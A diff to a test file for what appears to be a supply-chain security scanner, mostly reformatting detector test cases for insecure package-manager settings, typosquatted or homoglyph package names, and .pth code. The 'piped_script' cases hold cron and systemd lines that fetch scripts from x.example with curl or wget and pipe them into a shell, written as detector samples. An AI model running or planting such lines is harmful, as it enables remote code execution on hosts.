@@ -125,8 +125,16 @@ CASES = [
     Case(
         "ansible_no_tls",
         lambda text: settings.ansible_findings("ansible.cfg", text, HOSTS),
-        ["[galaxy_server.x]\nurl=http://galaxy.ansible.com/", "[galaxy]\nignore_certs = True", "[galaxy]\ndisable_gpg_verify: yes"],
-        ["[galaxy]\nignore_certs = False", "[galaxy_server.x]\nurl=http://localhost:8000/", "# [galaxy]\n# ignore_certs = True"],
+        [
+            "[galaxy_server.x]\nurl=http://galaxy.ansible.com/",
+            "[galaxy]\nignore_certs = True",
+            "[galaxy]\ndisable_gpg_verify: yes",
+        ],
+        [
+            "[galaxy]\nignore_certs = False",
+            "[galaxy_server.x]\nurl=http://localhost:8000/",
+            "# [galaxy]\n# ignore_certs = True",
+        ],
     ),
     Case(
         "apt_keyring_writable",
@@ -173,7 +181,11 @@ CASES = [
     Case(
         "apt_shared_keyring",
         keys,
-        ["/etc/apt/trusted.gpg 900 yes", "/etc/apt/trusted.gpg.d/docker.gpg 900 yes", "/etc/apt/trusted.gpg.d/a.asc 900 yes a-repository"],
+        [
+            "/etc/apt/trusted.gpg 900 yes",
+            "/etc/apt/trusted.gpg.d/docker.gpg 900 yes",
+            "/etc/apt/trusted.gpg.d/a.asc 900 yes a-repository",
+        ],
         [
             "/etc/apt/trusted.gpg 32 yes",
             "/etc/apt/trusted.gpg.d/debian-archive-bookworm-stable.asc 900 yes debian-archive-keyring",
@@ -205,14 +217,28 @@ CASES = [
     Case(
         "apt_unsigned",
         deb822,
-        [f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\nTrusted: yes", "# x\nTypes: deb\nURIs: http://a/b\nAllow-Insecure: YES\nSuites: a"],
-        [f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\nTrusted: no", f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\n# Trusted: yes"],
+        [
+            f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\nTrusted: yes",
+            "# x\nTypes: deb\nURIs: http://a/b\nAllow-Insecure: YES\nSuites: a",
+        ],
+        [
+            f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\nTrusted: no",
+            f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\n# Trusted: yes",
+        ],
     ),
     Case(
         "apt_unsigned",
         apt.conf_findings,
-        ['APT::Get::AllowUnauthenticated "true";', 'Acquire::https::Verify-Peer "false";', 'Acquire::https::repo.example::Verify-Peer "0";'],
-        ['APT::Get::AllowUnauthenticated "false";', 'Acquire::https::Verify-Peer "true";', 'Acquire::http::Proxy "false";'],
+        [
+            'APT::Get::AllowUnauthenticated "true";',
+            'Acquire::https::Verify-Peer "false";',
+            'Acquire::https::repo.example::Verify-Peer "0";',
+        ],
+        [
+            'APT::Get::AllowUnauthenticated "false";',
+            'Acquire::https::Verify-Peer "true";',
+            'Acquire::http::Proxy "false";',
+        ],
     ),
     Case(
         "galaxy_no_signature",
@@ -281,13 +307,22 @@ CASES = [
     Case(
         "lock_host",
         lock,
-        ["npm a https://other.example/a.tgz", "npm a github:x/y", "npm a git+ssh://git@other.example/x.git", "pypi a https://pypi.org.other.example/a"],
+        [
+            "npm a https://other.example/a.tgz",
+            "npm a github:x/y",
+            "npm a git+ssh://git@other.example/x.git",
+            "pypi a https://pypi.org.other.example/a",
+        ],
         ["npm a https://registry.npmjs.org/a/-/a.tgz", "pypi a https://pypi.org/simple"],
     ),
     Case(
         "lock_host",
         required,
-        ["--index-url https://other.example/simple\n", "a @ https://other.example/a.whl --hash=sha256:0", "-i https://u:p@other.example/"],
+        [
+            "--index-url https://other.example/simple\n",
+            "a @ https://other.example/a.whl --hash=sha256:0",
+            "-i https://u:p@other.example/",
+        ],
         ["--index-url=https://pypi.org/simple\n", "a==1 --hash=sha256:0", "a @ file:///srv/a.whl --hash=sha256:0"],
     ),
     Case("lock_no_integrity", lambda text: lock(text, False), ["npm a https://registry.npmjs.org/a.tgz"], []),
@@ -301,7 +336,11 @@ CASES = [
     Case(
         "lock_no_tls",
         required,
-        ["--extra-index-url http://pypi.org/simple", "a @ http://pypi.org/a.whl --hash=sha256:0", "-e git+http://pypi.org/a.git"],
+        [
+            "--extra-index-url http://pypi.org/simple",
+            "a @ http://pypi.org/a.whl --hash=sha256:0",
+            "-e git+http://pypi.org/a.git",
+        ],
         ["-f http://127.0.0.1/x", "a==1 --hash=sha256:0 # http://x.example"],
     ),
     Case(
@@ -310,7 +349,12 @@ CASES = [
         ["pypi:cupy-cuda112", "npm:twilio-npm", "npm:aws-sdk-lite2", "gem:twilio-helper"],
         ["pypi:cupy-cuda12x", "npm:twilio", "npm:twilio-video", "pypi:mycupy-cuda112", "gem:twilio-ruby"],
     ),
-    Case("name_homoglyph", named, ["pypi:r\u0435quests", "npm:lodas\u04bb", "pypi:n\uff55mpy"], ["pypi:requests", "npm:lodash"]),
+    Case(
+        "name_homoglyph",
+        named,
+        ["pypi:r\u0435quests", "npm:lodas\u04bb", "pypi:n\uff55mpy"],
+        ["pypi:requests", "npm:lodash"],
+    ),
     Case(
         "name_lookalike",
         named,
@@ -330,7 +374,8 @@ CASES = [
             "pypi:Requests",
             "pypi:python_dateutil",
             "pypi:reqeustz",  # two edits
-            "pypi:httpx2",  # known by itself
+            "pypi:vyper",  # one edit from typer, and known by itself
+            "npm:is-object",
             "npm:lodash",
             "npm:acme-tool",
             "pypi:pi",
@@ -340,13 +385,24 @@ CASES = [
         "npm_no_tls",
         lambda text: settings.npm_findings(".npmrc", text),
         ["registry=http://registry.npmjs.org/", "@acme:registry=http://npm.acme.example/", "strict-ssl = false"],
-        ["registry=https://registry.npmjs.org/", "@acme:registry=https://npm.acme.example/", "strict-ssl=true", "; strict-ssl=false"],
+        [
+            "registry=https://registry.npmjs.org/",
+            "@acme:registry=https://npm.acme.example/",
+            "strict-ssl=true",
+            "; strict-ssl=false",
+        ],
     ),
     Case(
         "own_name_public",
         lock,
-        ["npm acme-tool https://registry.npmjs.org/acme-tool.tgz", "pypi Acme_Tool https://files.pythonhosted.org/acme.whl"],
-        ["npm acme-tool https://npm.acme.example/acme-tool.tgz", "npm acmetool https://registry.npmjs.org/acmetool.tgz"],
+        [
+            "npm acme-tool https://registry.npmjs.org/acme-tool.tgz",
+            "pypi Acme_Tool https://files.pythonhosted.org/acme.whl",
+        ],
+        [
+            "npm acme-tool https://npm.acme.example/acme-tool.tgz",
+            "npm acmetool https://registry.npmjs.org/acmetool.tgz",
+        ],
     ),
     Case(
         "own_name_public",
@@ -363,23 +419,45 @@ CASES = [
     Case(
         "pip_extra_index",
         lambda text: settings.pip_findings("pip.conf", text),
-        ["[global]\nextra-index-url = https://pypi.acme.example/simple", "[install]\nextra_index_url=\n  https://a.example\n  https://b.example"],
-        ["[global]\nindex-url = https://pypi.acme.example/simple", "[global]\n# extra-index-url = https://a.example", "[global]\nextra-index-url ="],
+        [
+            "[global]\nextra-index-url = https://pypi.acme.example/simple",
+            "[install]\nextra_index_url=\n  https://a.example\n  https://b.example",
+        ],
+        [
+            "[global]\nindex-url = https://pypi.acme.example/simple",
+            "[global]\n# extra-index-url = https://a.example",
+            "[global]\nextra-index-url =",
+        ],
     ),
     Case(
         "pip_extra_index",
         lambda text: settings.environment_findings("e", text),
-        ["PIP_EXTRA_INDEX_URL=https://a.example/", 'export UV_EXTRA_INDEX_URL="https://a.example/"', "Environment=PIP_EXTRA_INDEX_URL=https://a/"],
-        ["PIP_INDEX_URL=https://a.example/", "# PIP_EXTRA_INDEX_URL=https://a.example/", "MY_PIP_EXTRA_INDEX_URLS=https://a.example"],
+        [
+            "PIP_EXTRA_INDEX_URL=https://a.example/",
+            'export UV_EXTRA_INDEX_URL="https://a.example/"',
+            "Environment=PIP_EXTRA_INDEX_URL=https://a/",
+        ],
+        [
+            "PIP_INDEX_URL=https://a.example/",
+            "# PIP_EXTRA_INDEX_URL=https://a.example/",
+            "MY_PIP_EXTRA_INDEX_URLS=https://a.example",
+        ],
     ),
     Case(
         "pip_no_tls",
         lambda text: settings.pip_findings("pip.conf", text),
         ["[global]\nindex-url = http://pypi.acme.example/simple", "[global]\ntrusted-host = pypi.acme.example"],
-        ["[global]\nindex-url = https://pypi.org/simple", "[global]\nindex-url = http://127.0.0.1:3141/", "[global]\ntrusted-host = localhost:3141"],
+        [
+            "[global]\nindex-url = https://pypi.org/simple",
+            "[global]\nindex-url = http://127.0.0.1:3141/",
+            "[global]\ntrusted-host = localhost:3141",
+        ],
     ),
     Case(
-        "pip_no_tls", required, ["--trusted-host pypi.acme.example\na==1 --hash=sha256:0"], ["trusted-host==1 --hash=sha256:0"]
+        "pip_no_tls",
+        required,
+        ["--trusted-host pypi.acme.example\na==1 --hash=sha256:0"],
+        ["trusted-host==1 --hash=sha256:0"],
     ),
     Case(
         "piped_script",
@@ -388,11 +466,11 @@ CASES = [
             "0 4 * * * root curl -fsSL https://x.example/i.sh | sh",
             "0 4 * * * root wget -qO- https://x.example/i.sh | sudo -E bash -",
             "ExecStart=/bin/sh -c 'curl -s https://x.example/i.sh | /bin/bash'",
-            "ExecStart=/bin/bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
+            'ExecStart=/bin/bash -c "$(curl -fsSL https://x.example/i.sh)"',
             "* * * * * root bash <(curl -s https://x.example/i.sh)",
             "* * * * * root curl -s https://x.example/i.py | python3",
             "curl -s https://x.example/i.sh \\\n  | sh",
-            "eval \"$(wget -qO- https://x.example/env)\"",
+            'eval "$(wget -qO- https://x.example/env)"',
         ],
         [
             "# 0 4 * * * root curl https://x.example/i.sh | sh",
@@ -409,7 +487,11 @@ CASES = [
     Case(
         "python_pth_code",
         pth,
-        ["import os; os.system('x')", "/srv/x\nimport\tevil", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; __import__('evil')"],
+        [
+            "import os; os.system('x')",
+            "/srv/x\nimport\tevil",
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; __import__('evil')",
+        ],
         [
             "/srv/app/src",
             "# import os",
